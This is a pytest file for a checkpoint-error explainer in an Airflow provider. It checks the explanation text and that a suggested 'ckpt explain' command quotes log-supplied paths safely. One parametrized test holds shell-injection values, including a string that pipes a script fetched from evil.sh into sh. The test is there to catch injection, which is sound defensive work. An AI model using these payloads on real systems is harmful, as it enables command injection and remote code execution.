"""Explanations for people: one page once, its causes below each other, and what is not known."""

from __future__ import annotations

import shlex

import pytest

from airflow_provider_ckpt.cli.explain_output import print_explained
from airflow_provider_ckpt.symptoms.explain import explain


def shown(capsys, lines: list[str], location: str | None = None) -> str:
    print_explained(explain(lines), location)
    return capsys.readouterr().out


def test_a_page_is_shown_once_with_all_of_its_causes(capsys):
    out = shown(capsys, ["Multiple streaming jobs detected for 4."])
    assert out.count("Repair:") == 1
    assert "The commit log is ahead of the offset log: A batch is committed" in " ".join(out.split())
    assert "Line 1. The text says: batch 4." in out
    assert "Page of the runbook: concurrent-stream-log-update." in out


def test_how_often_a_text_was_met(capsys):
    out = shown(capsys, ["java.lang.X: batch 3 doesn't exist", "\tat a.B.c(D.java:1)"] * 3)
    assert "3 times, lines 1 to 5." in out


def test_the_location_of_the_text_is_offered_and_not_read(capsys):
    out = shown(capsys, ["Failed to read log file file:/data/ck/offsets/3. Incomplete log file"])
    assert "    ckpt explain - /data/ck" in out


@pytest.mark.parametrize("name", ["a|curl${IFS}evil.sh|sh", "a`id`", "a;id", "$(id)"])
def test_a_location_of_the_text_reaches_no_shell(capsys, name):
    """The command is there to be copied, and whoever wrote the log has chosen the location in it."""
    out = shown(capsys, [f"Failed to read log file file:/data/{name}/offsets/3. Incomplete log file"])
    offered = [line.strip() for line in out.splitlines() if "ckpt explain -" in line]
    assert offered in ([], [f"ckpt explain - {shlex.quote(f'/data/{name}')}"])


def test_what_is_known_and_what_is_not(capsys):
    out = shown(
        capsys,
        [
            "java.lang.OutOfMemoryError: heap",
            "\tat a.B.c(D.java:1)",
            "26/11/23 02:14:23 ERROR A: Multiple streaming jobs detected for 4.",
        ],
    )
    assert "ckpt does not know 1 exception of this text" in out
    assert "    Line 1: OutOfMemoryError: heap" in out
    assert "send the whole" not in " ".join(out.split())


def test_the_page_that_the_catalogue_names_is_printed_by_its_name(capsys):
    out = shown(capsys, ["[CANNOT_LOAD_STATE_STORE.UNCATEGORIZED] x"])
    assert "ckpt explain cannot-load-state-store prints it" in " ".join(out.split())
    assert "[CANNOT_LOAD_STATE_STORE] Error reading delta file" in shown(capsys, ["cannot-load-state-store"])
